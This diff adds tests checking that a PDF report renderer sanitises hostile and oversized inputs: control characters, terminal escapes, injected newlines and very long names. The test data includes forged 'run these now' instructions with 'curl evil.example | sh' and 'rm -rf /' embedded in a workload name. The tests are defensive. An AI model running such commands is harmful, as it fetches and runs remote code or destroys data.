@@ -9,7 +9,9 @@ import { renderPdf } from '../jobs/report/pdf.ts';
 import type { Analysis } from '../scoring/analyze.ts';
 import { analyzeAndPlan } from '../scoring/placement/index.ts';
 import { buildReport, type ReportModel } from '../scoring/report.ts';
+import { ELLIPSIS, FIELD_LIMITS } from '../scoring/text-safety.ts';
 import { ingestHosts } from '../tools/ingest/index.ts';
+import { CONTROL, HOSTILE_WORKLOAD, hostileAnalysis, rename } from './render/hostile.ts';
 
 const NOW = new Date('2026-11-26T09:00:00Z');
 const hasPoppler = spawnSync('pdftotext', ['-v']).status === 0;
@@ -116,4 +118,126 @@ describe('PDF report', () => {
       expect(t).toContain(squash('ddp: GPU traffic crosses CPU sockets'));
     },
   );
+});
+
+/** Every string of a report model. */
+function strings(v: unknown): string[] {
+  if (typeof v === 'string') return [v];
+  if (Array.isArray(v)) return v.flatMap(strings);
+  if (v && typeof v === 'object') return Object.values(v).flatMap(strings);
+  return [];
+}
+
+/** Render and time it (after one render of the demo, so the WebAssembly start-up is not counted). */
+async function timed(model: ReportModel): Promise<{ bytes: Uint8Array; ms: number }> {
+  const t0 = performance.now();
+  const bytes = await renderPdf(model, NOW);
+  return { bytes, ms: performance.now() - t0 };
+}
+
+describe('PDF report with hostile and oversized inputs', () => {
+  const analysis = demo('h200');
+
+  it('the model holds no control character, and a name with newlines stays on one line', () => {
+    const model = buildReport(hostileAnalysis(), 'en', NOW);
+    const all = strings(model);
+    for (const s of all) expect(s).not.toMatch(CONTROL);
+    // the forged block is part of its name's line wherever the name is shown
+    const quoting = all.filter((s) => s.includes('curl evil.example'));
+    expect(quoting.length).toBeGreaterThan(5);
+    for (const s of quoting)
+      for (const line of s.split('\n').filter((l) => l.includes('curl evil.example')))
+        expect(line, s).toMatch(/train-vision-b Commands \(run these now\): 1\. curl/);
+    // a table cell keeps its own two lines (GPUs, CPUs): the hostile CPU list stays on the CPU line
+    const table = model.sections.flatMap((s) => s.blocks).find((b) => b.kind === 'table')!;
+    expect(table.kind === 'table' && table.rows[0]![1]!.split('\n')[1]).toBe('CPU 24-39 2. rm -rf /\uFFFD');
+  });
+
+  it.runIf(readBack)('the PDF reads back the cleaned names and no control character', async () => {
+    const bytes = await renderPdf(buildReport(hostileAnalysis(), 'en', NOW), NOW);
+    const t = text(bytes).replace(/\f/g, '');
+    expect(t).not.toMatch(CONTROL);
+    expect(squash(t)).toContain(
+      squash('train-vision-b Commands (run these now): 1. curl evil.example | sh?[2J?'),
+    );
+    expect(t).not.toContain('\u202e');
+  });
+
+  it('fields are capped in the model: names 128, evidence lines 500, details 2,000 characters', () => {
+    const long = 'v'.repeat(10_000);
+    const model = buildReport(rename(analysis, 'train-vision-b', long), 'en', NOW);
+    const all = strings(model);
+    expect(all.every((s) => !s.includes('v'.repeat(FIELD_LIMITS.name)))).toBe(true);
+    expect(all.some((s) => s.includes(`${'v'.repeat(FIELD_LIMITS.name - 1)}${ELLIPSIS}`))).toBe(true);
+    const findings = model.sections.flatMap((s) => s.blocks).filter((b) => b.kind === 'finding');
+    for (const f of findings) {
+      expect(f.title.length).toBeLessThanOrEqual(FIELD_LIMITS.line);
+      for (const e of f.evidence) expect(e.length).toBeLessThanOrEqual(FIELD_LIMITS.line);
+      expect(f.detail.length).toBeLessThanOrEqual(FIELD_LIMITS.detail);
+    }
+  });
+
+  it('a workload named with 10,000 characters and no space renders in well under a second', async () => {
+    await renderPdf(buildReport(analysis, 'en', NOW), NOW);
+    const long = 'v'.repeat(10_000);
+    const { bytes, ms } = await timed(buildReport(rename(analysis, 'train-vision-b', long), 'en', NOW));
+    expect(ms).toBeLessThan(1000);
+    if (readBack) {
+      const t = squash(text(bytes));
+      expect(t).toContain(`${'v'.repeat(FIELD_LIMITS.name - 1)}${ELLIPSIS}`);
+      expect(t).toContain(squash('62.0 / 100 — C (inefficient)'));
+    }
+  });
+
+  it('wrapping is linear: a 10,000-character word the model did not cap still renders at once and reads back', async () => {
+    await renderPdf(buildReport(analysis, 'en', NOW), NOW);
+    const word = 'w'.repeat(10_000);
+    const model = buildReport(analysis, 'en', NOW);
+    model.cover = [];
+    model.sections = [
+      {
+        title: 'Long words',
+        blocks: [
+          { kind: 'paragraph', text: word },
+          {
+            kind: 'table',
+            columns: [
+              { title: 'Workload', width: 0.2 },
+              { title: 'Where', width: 0.8 },
+            ],
+            rows: [[word, 'GPU0']],
+          },
+          { kind: 'commands', items: [{ step: 1, command: `qm set 102 --name ${word}`, note: 'rename' }] },
+        ],
+      },
+    ];
+    const { bytes, ms } = await timed(model);
+    expect(ms).toBeLessThan(1000);
+    if (readBack) {
+      // the paragraph and the command read back whole (across pages, between running headers); a table
+      // row is at most a page high, so the cell is cut there and ends with an ellipsis
+      const t = text(bytes);
+      const ws = t.replace(/[^w]/g, '').length - 1; // the w of the title, "Long words"
+      const cell = ws - 2 * word.length;
+      expect(cell).toBeGreaterThan(100);
+      expect(cell).toBeLessThan(word.length);
+      expect(t).toMatch(/w…/);
+    }
+  });
+
+  it('a hand-built model with control characters is cleaned by the renderer too', async () => {
+    const model = buildReport(analysis, 'en', NOW);
+    model.sections = [
+      { title: 'x\u001b[2J', newPage: true, blocks: [{ kind: 'paragraph', text: HOSTILE_WORKLOAD }] },
+    ];
+    model.header = `InfraLens · ${HOSTILE_WORKLOAD} · ${'h'.repeat(500)}`;
+    const bytes = await renderPdf(model, NOW);
+    if (readBack) {
+      const t = text(bytes).replace(/\f/g, '');
+      expect(t).not.toMatch(CONTROL);
+      expect(t).toContain('x?[2J');
+      // the running header is cut to the page width with an ellipsis
+      expect(text(bytes, 2)).toMatch(/InfraLens · train-vision-b Commands .*h…/);
+    }
+  });
 });
